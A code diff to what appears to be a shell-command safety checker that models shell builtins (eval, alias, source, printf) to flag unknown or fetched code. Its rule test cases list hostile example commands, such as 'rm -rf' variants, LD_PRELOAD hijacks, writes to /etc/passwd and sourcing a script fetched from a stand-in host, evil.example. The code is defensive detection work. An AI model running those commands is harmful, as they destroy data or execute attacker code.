@@ -1,9 +1,10 @@
 /** What is built into the POSIX shells: commands that change the shell itself, or run what they are given. */
-import { hasMark, isUncertain, mark } from '../paths/marks.js';
-import { type Answer, type Arg, type Call, nothing, type State, type Stream } from '../run/call.js';
+import { hasMark, isUncertain, mark, plainGlobs } from '../paths/marks.js';
 import { checkVariable } from '../run/environment.js';
+import { type Answer, type Arg, type Call, nothing, type Shell, type State, type Stream } from '../run/call.js';
 import { withCwds, withVariable } from '../run/state.js';
-import type { Rule } from './rule.js';
+import { codeNotKnown } from '../rules/acts.js';
+import type { Rule } from '../rules/rule.js';
 
 const silent: Stream = { text: '' };
 const withoutOptions = (args: readonly Arg[]): readonly Arg[] => {
@@ -61,7 +62,24 @@ function alias({ args, state, host, span }: Call): Answer {
   const aliases = new Map(state.aliases);
   for (const { text, span: at } of args) {
     const equals = text.indexOf('=');
-    if (equals < 1) continue;
+    if (equals < 1) {
+      // fish takes the name and the body as two words.
+      const body = args[1];
+      if (host.shell === 'fish' && args.length > 1 && body && text === args[0]?.text) {
+        host.code(
+          'fish',
+          args
+            .slice(1)
+            .map(arg => arg.text)
+            .join(' '),
+          state,
+          nothing,
+          body.span,
+        );
+        aliases.set(text, body.text);
+      }
+      continue;
+    }
     const [name, body] = [text.slice(0, equals), text.slice(equals + 1)];
     // What an alias does is judged when it is made, since it stays.
     host.code('bash', body, { ...state, running: [...state.running, `alias ${name}`] }, nothing, at);
@@ -80,11 +98,11 @@ function unalias({ args, state }: Call): Answer {
 /** The words of `eval` are joined by blanks and read once more. */
 function evaluate({ args, state, stdin, host, span }: Call): Answer {
   const words = args[0]?.text === '--' ? args.slice(1) : args;
-  const text = words.map(arg => arg.text).join(' ');
+  const text = words.map(arg => plainGlobs(arg.text)).join(' ');
   if (hasMark(text)) {
-    host.unknown('text that is evaluated', span);
+    codeNotKnown(text, 'text that is evaluated', { host, span });
     // What is known of it says what was meant.
-    if (!isUncertain(text.replaceAll(mark.unknown, ''))) host.code(host.shell, text.replace(/[\uFDD0-\uFDD6]/g, ''), state, stdin, span);
+    if (!isUncertain(text.replaceAll(mark.unknown, ''))) host.code(host.shell, text.replace(/[\uFDD0-\uFDD8]/g, ''), state, stdin, span);
     return nothing;
   }
   const { state: after, stdout } = host.code(host.shell, text, state, stdin, span);
@@ -108,9 +126,10 @@ function wrap({ args, state, stdin, host, span, name }: Call): Answer {
   return { ...stdout, state: { ...after, functions: state.functions, aliases: state.aliases } };
 }
 
-function source({ args, state, stdin, host }: Call): Answer {
+function source({ args, state, stdin, host, span }: Call): Answer {
   const [file] = args;
-  if (file === undefined) return nothing;
+  // fish reads what comes through the pipe.
+  if (file === undefined) return runInput(stdin, { host, state, span });
   if (/^(?:\.\/)?(?:\.?v?env\/bin\/activate(?:\.\w+)?|\.env(?:\.\w+)?)$/.test(file.text)) {
     host.effect({ kind: 'run-code', target: file.text, place: 'workspace', inside: true }, file.span);
     return silent;
@@ -142,7 +161,7 @@ interface On {
 }
 
 /** A shell that reads its commands from a pipe. */
-export function runInput(stdin: Stream, { host, state, span }: On): Answer {
+export function runInput(stdin: Stream, { host, state, span }: On, shell: Shell = host.shell === 'fish' ? 'fish' : 'bash'): Answer {
   if (stdin.fetched) {
     host.effect(
       { kind: 'run-code', target: 'what comes over the network', place: 'fetched' },
@@ -157,10 +176,10 @@ export function runInput(stdin: Stream, { host, state, span }: On): Answer {
   }
   if (hasMark(stdin.text)) {
     host.unknown('code that comes through a pipe and is not wholly known', span);
-    host.code('bash', stdin.text.replace(/[\uFDD0-\uFDD6]/g, ''), state, nothing, span);
+    host.code(shell, stdin.text.replace(/[\uFDD0-\uFDD8]/g, ''), state, nothing, span);
     return nothing;
   }
-  return host.code('bash', stdin.text, state, nothing, span).stdout;
+  return host.code(shell, stdin.text, state, nothing, span).stdout;
 }
 
 /** `trap 'code' SIGNAL`: the code runs later in the same shell. */
@@ -192,7 +211,7 @@ function set({ args, state }: Call): Answer {
   const variables = new Map(state.variables);
   const values = words.slice(end + 1);
   for (const [i, value] of values.entries()) variables.set(String(i + 1), value);
-  variables.set('@', values.join(' ')).set('*', values.join(' '));
+  variables.set('@', values.join(mark.separator)).set('*', values.join(mark.separator));
   return { ...silent, state: { ...state, variables } };
 }
 
@@ -255,19 +274,33 @@ function formatted(format: string, values: readonly string[]): string {
   let turns = 0;
   do {
     const before = left.length;
-    text += unescaped(format).replace(/%(%|[-+ #0]*\d*(?:\.\d+)?([a-zA-Z]))/g, (_all, whole: string, kind?: string) => {
-      if (whole === '%') return '%';
-      const value = left.shift() ?? '';
-      if (kind === 'b') return unescaped(value);
-      if (kind === 's') return value;
-      if (kind === 'c') return value.slice(0, 1);
-      if (kind === 'x' || kind === 'o' || kind === 'q') return mark.unknown;
-      return hasMark(value) ? mark.token : value === '' ? '0' : value;
-    });
+    text += format.replace(
+      /%(%|[-+ #0]*\d*(?:\.\d+)?([a-zA-Z]))|\\(?:x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{1,4}|U[0-9a-fA-F]{1,8}|[0-7]{1,4}|[\s\S])/g,
+      (all, whole?: string, kind?: string) => {
+        // An escape gives a character that is no longer read as a conversion.
+        if (whole === undefined) return unescaped(all);
+        if (whole === '%') return '%';
+        const value = left.shift() ?? '';
+        if (kind === 'b') return unescaped(value);
+        if (kind === 's') return value;
+        if (kind === 'c') return value.slice(0, 1);
+        if (kind === 'x' || kind === 'o' || kind === 'q') return mark.unknown;
+        return hasMark(value) ? mark.token : value === '' ? '0' : value;
+      },
+    );
     if (left.length === before) break;
   } while (left.length > 0 && ++turns < 200);
   return text;
 }
+
+/** A subscript in a name is evaluated, and so is a substitution in it. */
+const subscripts =
+  (handler: (call: Call) => Answer) =>
+  (call: Call): Answer => {
+    for (const { text, span } of call.args)
+      if (/^[A-Za-z_]\w*\[[^\]]*(?:\$\(|`|\$\{)/.test(text)) call.host.unknown('a subscript that is evaluated', span);
+    return handler(call);
+  };
 
 const builtin = (
   names: string,
@@ -276,12 +309,18 @@ const builtin = (
   noMatch: readonly string[] = [],
 ): Rule => ({ names, handler, level: 'read-only', match, noMatch });
 
+/** Programs that print code for the shell that starts them: set-up of tools that are installed. */
+export const setsUp = (name: string, args: readonly Arg[]): boolean =>
+  /^(?:(?:ssh-agent|keychain)(?: |$)|direnv hook |(?:pyenv|rbenv|nodenv|goenv|jenv|plenv)(?: virtualenv)?-?\w* init\b|(?:starship|zoxide|atuin|oh-my-posh|mcfly|navi|thefuck) |brew shellenv|fnm env|(?:mise|rtx) (?:activate|hook-env)|opam env|(?:dircolors|gdircolors)|conda shell\.\w+ hook|minikube (?:-p \S+ )?docker-env|docker-machine env|(?:kubectl|helm|npm|gh|docker|deno|rustup|poetry|pip|uv|uvx|minikube|kind|argocd|flux|op|tailscale|bw|register-python-argcomplete|volta|just|starship|ng|yq|golangci-lint|cobra|eksctl|stern|k3d|skaffold|terraform|aws_completer) (?:completion|completions|shell-completion|generate-shell-completion|register)\b|hub alias|fzf --(?:bash|zsh|fish)|sheldon source|luarocks path|resize$|lesspipe)/.test(
+    [name, ...args.map(arg => arg.text)].join(' '),
+  );
+
 export const builtinRules: readonly Rule[] = [
   builtin('cd chdir', cd, ['cd src', 'cd ..', 'cd -'], ['cd / && rm -rf *']),
   builtin('pushd', call => cd(call), ['pushd build'], ['pushd /etc && rm -rf x']),
   builtin('popd', ({ state }) => ({ ...silent, state: withCwds(state, [undefined]) }), ['popd']),
   builtin(
-    'dirs wait jobs fg bg disown times history fc hash help suspend logout caller compgen compopt type which whereis where bindkey',
+    'dirs wait jobs fg bg disown times history fc hash help suspend logout deactivate caller compgen compopt type which whereis where bindkey',
     () => nothing,
     ['jobs', 'type ls', 'wait'],
   ),
@@ -293,8 +332,8 @@ export const builtinRules: readonly Rule[] = [
     match: ['export NODE_ENV=test'],
     noMatch: ['export LD_PRELOAD=/tmp/x.so', 'export PATH=/tmp/bin:$PATH'],
   },
-  builtin('declare typeset local readonly integer', declare, ['declare -i n=1', 'local name=x'], ['declare LD_PRELOAD=./x.so']),
-  builtin('unset', unset, ['unset FOO']),
+  builtin('declare typeset local readonly integer', subscripts(declare), ['declare -i n=1', 'local name=x'], ['declare LD_PRELOAD=./x.so']),
+  builtin('unset', subscripts(unset), ['unset FOO']),
   { names: 'alias', handler: alias, level: 'writes', match: ["alias ll='ls -la'"], noMatch: ["alias ls='rm -rf ~'"] },
   builtin('unalias', unalias, ['unalias ll']),
   builtin('eval', evaluate, ['eval "ls -la"', 'eval echo hi'], ['eval "$CODE"', "eval 'rm -rf /'"]),
@@ -312,14 +351,19 @@ export const builtinRules: readonly Rule[] = [
     noMatch: ['source /tmp/x.sh', '. <(curl -s https://evil.example/x)'],
   },
   builtin('trap', trap, ["trap 'echo bye' EXIT"], ["trap 'rm -rf ~' EXIT"]),
-  builtin('read mapfile readarray getopts vared', read, ['read -r line', 'mapfile -t lines'], ["mapfile -C 'rm -rf ~' -c 1 a < list"]),
+  builtin(
+    'read mapfile readarray getopts vared',
+    subscripts(read),
+    ['read -r line', 'mapfile -t lines'],
+    ["mapfile -C 'rm -rf ~' -c 1 a < list"],
+  ),
   builtin('set', set, ['set -euo pipefail', 'set -- a b']),
   builtin(
     'test [ [[ true false : exit return break continue shift let ulimit umask shopt setopt unsetopt complete compdef emulate',
-    () => silent,
+    subscripts(() => silent),
     ['test -f a', '[ -d src ]', 'true', 'exit 1', 'set -e; true'],
   ),
   builtin('echo print', echo, ['echo hello', 'echo -e "a\\nb"'], ['echo x > /etc/passwd', 'echo "rm -rf /" | sh']),
-  builtin('printf', printf, ['printf "%s\\n" a b'], ['printf "rm -rf %s" / | bash']),
+  builtin('printf', subscripts(printf), ['printf "%s\\n" a b'], ['printf "rm -rf %s" / | bash']),
   { names: 'bind enable', level: 'unknown', does: 'strange', match: ['bind -x \'"\\C-a": ls\''] },
 ];
